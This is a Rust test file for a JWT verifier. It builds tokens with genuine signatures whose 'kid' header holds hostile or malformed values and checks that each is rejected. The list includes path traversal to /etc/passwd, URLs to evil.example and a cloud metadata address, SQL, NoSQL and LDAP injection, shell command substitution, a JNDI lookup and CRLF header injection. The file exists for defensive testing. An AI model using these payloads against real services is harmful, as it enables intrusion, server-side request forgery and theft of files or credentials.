//! A `kid` that is a path, a query, a place, no string, or another key's (RFC 8725 §3.10). Each signature is genuine.

use serde_json::{Value, json};
use usher::session::Cause;

use super::Forgery;
use super::issuers::Issuer;

/// Texts that are no key's name, however they are read.
fn unknown() -> Vec<(&'static str, String)> {
    let short = [
        ("a path", "../../../../../../dev/null"),
        ("an absolute path", "/dev/null"),
        ("a path to a known name", "./a"),
        ("a path past a filter", "....//....//etc/passwd"),
        ("a path in percent", "%2e%2e%2f%2e%2e%2fdev%2fnull"),
        ("a path with back-slashes", "..\\..\\windows\\win.ini"),
        ("a file's URL", "file:///dev/null"),
        ("a URL", "https://evil.example/jwks.json"),
        ("a URL inside", "http://169.254.169.254/latest/meta-data/"),
        ("SQL that is true", "a' OR '1'='1"),
        ("SQL that brings its key", "x' UNION SELECT 'secret' -- "),
        ("SQL with a comment", "a'--"),
        ("SQL with a wildcard", "%"),
        ("a query of Mongo's", "{\"$ne\": null}"),
        ("LDAP", "*)(kid=*"),
        ("a pattern", "*"),
        ("an expression", ".*"),
        ("a pipe", "a|id"),
        ("a command", "a;id"),
        ("a substituted command", "$(id)"),
        ("back-ticks", "`id`"),
        ("a template", "{{7*7}}"),
        ("a lookup", "${jndi:ldap://evil.example/a}"),
        ("a prototype", "__proto__"),
        ("a constructor", "constructor"),
        ("a NUL", "\u{0}"),
        ("a known name and a NUL", "a\u{0}"),
        ("a known name and a NUL and more", "a\u{0}.pem"),
        ("line ends", "a\r\nX-Key: b"),
        ("empty", ""),
        ("a space", " "),
        ("a known name and a space", "a "),
        ("a space and a known name", " a"),
        ("another case", "A"),
        ("another alphabet", "\u{430}"),
        ("full width", "\u{ff41}"),
        ("a known name and a joiner", "a\u{200d}"),
        ("two known names", "a,b"),
        ("a known name in base64url", "YQ"),
        ("the place of a known name", "0"),
        ("the alias of the issuer", "set"),
        ("a key of another issuer", "z"),
    ];
    let jwk = Issuer::Set.signer().jwk(&json!({})).to_string();
    let long = [("a key", jwk), ("long", "a".repeat(8_000))];
    short.into_iter().map(|(name, kid)| (name, kid.to_owned())).chain(long).collect()
}

/// What is no string.
fn odd() -> Vec<Value> {
    vec![
        json!(null),
        json!(0),
        json!(1.5),
        json!(true),
        json!([]),
        json!(["a"]),
        json!(["a", "b"]),
        json!({}),
        json!({"kid": "a"}),
        json!({"$eq": "a"}),
    ]
}

pub(super) fn forgeries() -> Vec<Forgery> {
    let mut all = Vec::new();
    for (name, kid) in unknown() {
        all.push(Forgery::of(Issuer::Set, name, Issuer::Set.by_header(&json!({"kid": kid})), Cause::NoKeyFits));
    }
    for kid in odd() {
        for of in [Issuer::Set, Issuer::Secret] {
            let name = format!("no string: {kid}, of {of:?}");
            all.push(Forgery::of(of, name, of.by_header(&json!({"kid": kid})), Cause::Header));
        }
    }
    for (name, kid, cause) in [
        ("of another key of the set", "b", Cause::Signature),
        ("of a key that another issuer has too", "shared", Cause::Signature),
        ("of a key for another algorithm", "c", Cause::NoKeyFits),
    ] {
        all.push(Forgery::of(Issuer::Set, name, Issuer::Set.by_header(&json!({"kid": kid})), cause));
    }
    let header = |name: &str| {
        let mut header = Issuer::Set.header();
        let kid = header.as_object_mut().unwrap().remove("kid").unwrap();
        if !name.is_empty() {
            header[name] = kid;
        }
        Issuer::Set.sign(&header, &Issuer::Set.claims())
    };
    for (name, instead) in [("none where several keys fit", ""), ("in another case", "KID"), ("with a space", "kid ")] {
        all.push(Forgery::of(Issuer::Set, name, header(instead), Cause::NoKeyFits));
    }
    all
}
